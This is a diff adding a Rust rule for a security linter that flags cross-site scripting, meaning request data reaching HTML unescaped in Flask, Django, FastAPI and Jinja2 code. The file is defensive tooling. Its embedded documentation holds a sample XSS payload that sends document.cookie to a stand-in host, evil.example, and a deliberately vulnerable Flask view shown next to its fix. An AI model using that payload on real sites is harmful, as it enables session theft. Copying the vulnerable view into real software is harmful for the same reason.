@@ -1,0 +1,219 @@
+//! SEC304 xss: request data written into HTML without escaping.
+
+use tree_sitter::Node;
+
+use super::{sink_argument, CallSink};
+use crate::analysis::{ancestors, named_children, Arguments, Sink};
+use crate::rules::{
+    Applicability, Captures, Category, Check, Checker, Edit, FixAvailability, Rule, Severity,
+};
+use crate::syntax::Family;
+
+pub static RULE: Rule = Rule {
+    code: "SEC304",
+    name: "xss",
+    category: Category::Security,
+    severity: Severity::Error,
+    cwe: &[79],
+    owasp: Some("A03:2021 Injection"),
+    summary: "Request data reaches HTML without escaping; render it through an autoescaping template or `escape()` it.",
+    docs: DOCS,
+    fix: FixAvailability::Sometimes,
+    checks: &[
+        Check {
+            family: Family::Python,
+            query_path: "python/calls.scm",
+            query: include_str!("../../../../queries/python/calls.scm"),
+            run: check_call,
+        },
+        Check {
+            family: Family::Python,
+            query_path: "python/returns.scm",
+            query: include_str!("../../../../queries/python/returns.scm"),
+            run: check_return,
+        },
+    ],
+};
+
+/// Calls that mark a string as safe HTML or send it as an HTML body.
+const SINKS: &[CallSink] = &[
+    CallSink {
+        callees: &["markupsafe.Markup", "flask.Markup", "jinja2.Markup", "jinja2.utils.Markup"],
+        index: 0,
+        keyword: "base",
+    },
+    CallSink {
+        callees: &["django.utils.safestring.mark_safe", "django.utils.safestring.SafeString"],
+        index: 0,
+        keyword: "s",
+    },
+    CallSink {
+        callees: &["django.http.HttpResponse", "django.http.response.HttpResponse"],
+        index: 0,
+        keyword: "content",
+    },
+    CallSink {
+        callees: &["starlette.responses.HTMLResponse", "fastapi.responses.HTMLResponse"],
+        index: 0,
+        keyword: "content",
+    },
+    CallSink {
+        callees: &["flask.make_response", "flask.Response", "werkzeug.wrappers.Response", "flask.wrappers.Response"],
+        index: 0,
+        keyword: "response",
+    },
+];
+
+/// A content type that a browser will not render as HTML.
+fn not_html(checker: &Checker, args: &Arguments) -> bool {
+    ["content_type", "mimetype", "media_type"].iter().any(|k| {
+        args.keyword(k, checker.source).is_some_and(|v| {
+            let t = checker.text(v);
+            !t.contains("html") && (t.starts_with('"') || t.starts_with('\''))
+        })
+    })
+}
+
+fn check_call<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let (Some(func), Some(args_node)) = (caps.get("func"), caps.get("args")) else {
+        return;
+    };
+    if let Some(q) = checker.resolve_callee(func, &["jinja2.Environment", "jinja2.environment.Environment"]) {
+        check_environment(checker, func, args_node, &q);
+        return;
+    }
+    let Some((name, body)) = sink_argument(checker, func, args_node, SINKS) else {
+        return;
+    };
+    if not_html(checker, &Arguments::of(args_node)) {
+        return;
+    }
+    let Some(taint) = checker.taint(body, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    let from = checker.describe(&taint);
+    let short = name.rsplit('.').next().unwrap_or(&name);
+    let message = if matches!(short, "Markup" | "mark_safe" | "SafeString") {
+        format!("`{short}` marks {from} as safe HTML, so templates stop escaping it; pass the raw value to the template (or `escape()` it first)")
+    } else {
+        format!("`{short}` sends {from} as an HTML body without escaping; render a template (autoescaped) or `escape()` the value")
+    };
+    checker.report(body, message).with_taint(&taint);
+}
+
+/// `jinja2.Environment(...)` without autoescaping (Jinja2's default is off).
+fn check_environment<'a>(checker: &mut Checker<'a>, func: Node<'a>, args_node: Node<'a>, _q: &str) {
+    let args = Arguments::of(args_node);
+    match args.keyword_node("autoescape", checker.source) {
+        Some(kw) => {
+            let value = kw.child_by_field_name("value").map(|v| checker.text(v));
+            if value == Some("False") {
+                let range = kw.child_by_field_name("value").map(|v| v.byte_range()).unwrap_or(kw.byte_range());
+                checker
+                    .report(kw, "Jinja2 `Environment(autoescape=False)` renders variables unescaped; use `autoescape=select_autoescape()` (or `True`)")
+                    .with_fix("Turn autoescaping on", Applicability::Unsafe, vec![Edit { range, content: "True".into() }]);
+            }
+        }
+        None => {
+            if args.keywords.iter().any(|k| checker.text(*k).starts_with("**")) {
+                return;
+            }
+            let end = args_node.end_byte() - 1;
+            let sep = if args.positional.is_empty() && args.keywords.is_empty() { "" } else { ", " };
+            checker
+                .report(func, "Jinja2 `Environment()` without `autoescape` renders variables unescaped (Jinja2's default); pass `autoescape=select_autoescape()` (or `True`)")
+                .with_fix("Turn autoescaping on", Applicability::Unsafe, vec![Edit { range: end..end, content: format!("{sep}autoescape=True") }]);
+        }
+    }
+}
+
+/// Decorator methods that make a function a Flask view.
+const ROUTES: &[&str] = &["route", "get", "post", "put", "patch", "delete"];
+
+/// Whether `node` is inside a Flask view (its string return values are sent as `text/html`).
+fn in_flask_view(checker: &Checker, node: Node) -> bool {
+    if !super::imports_any(checker, &["flask", "quart"]) {
+        return false;
+    }
+    let path = ancestors(checker.item, node);
+    let Some(i) = path.iter().rposition(|n| n.kind() == "function_definition") else {
+        return false;
+    };
+    let Some(decorated) = i.checked_sub(1).map(|j| path[j]).filter(|d| d.kind() == "decorated_definition") else {
+        return false;
+    };
+    named_children(decorated).iter().any(|d| {
+        d.kind() == "decorator"
+            && d.named_child(0)
+                .filter(|c| c.kind() == "call")
+                .and_then(|c| c.child_by_field_name("function"))
+                .and_then(|f| f.child_by_field_name("attribute"))
+                .is_some_and(|a| ROUTES.contains(&checker.text(a)))
+    })
+}
+
+fn check_return<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let Some(mut value) = caps.get("value") else {
+        return;
+    };
+    // `return body, 200` / `return (body, 200, headers)`
+    if matches!(value.kind(), "expression_list" | "tuple") {
+        match value.named_child(0) {
+            Some(first) => value = first,
+            None => return,
+        }
+    }
+    let built = match value.kind() {
+        "string" => named_children(value).iter().any(|c| c.kind() == "interpolation"),
+        "binary_operator" => true,
+        "call" => value
+            .child_by_field_name("function")
+            .and_then(|f| f.child_by_field_name("attribute"))
+            .is_some_and(|a| matches!(checker.text(a), "format" | "join")),
+        _ => false,
+    };
+    if !built || !in_flask_view(checker, value) {
+        return;
+    }
+    let Some(taint) = checker.taint(value, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    let from = checker.describe(&taint);
+    checker
+        .report(value, format!("this Flask view returns a string built from {from}, which Flask sends as HTML unescaped; use `render_template` (autoescaped) or wrap the value in `escape()`"))
+        .with_taint(&taint);
+}
+
+const DOCS: &str = r#"## What it does
+Flags request data that reaches HTML unescaped: Flask views returning strings built from it
+(Flask sends them as `text/html`), `Markup`/`mark_safe` applied to it, Django `HttpResponse`,
+Flask `make_response`/`Response` and Starlette/FastAPI `HTMLResponse` bodies built from it, and
+Jinja2 environments created without autoescaping. Values passed through `escape`,
+`html.escape`, `bleach.clean`, or bodies sent as `text/plain` or JSON are not reported.
+
+## Why is this bad?
+`?name=<script>fetch('//evil.example/'+document.cookie)</script>` runs in the victim's browser
+with your site's origin: sessions are stolen and actions taken in the user's name.
+
+## Example
+```python
+@app.get("/hello")
+def hello():
+    return f"<h1>Hello {request.args.get('name', '')}</h1>"
+```
+
+## Use instead
+```python
+from markupsafe import escape
+
+@app.get("/hello")
+def hello():
+    return f"<h1>Hello {escape(request.args.get('name', ''))}</h1>"
+```
+Better: `render_template("hello.html", name=name)`, which escapes by default.
+
+## References
+- [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
+- [OWASP A03:2021 Injection](https://owasp.org/Top10/A03_2021-Injection/)
+- [Flask: security considerations (XSS)](https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss)
+"#;
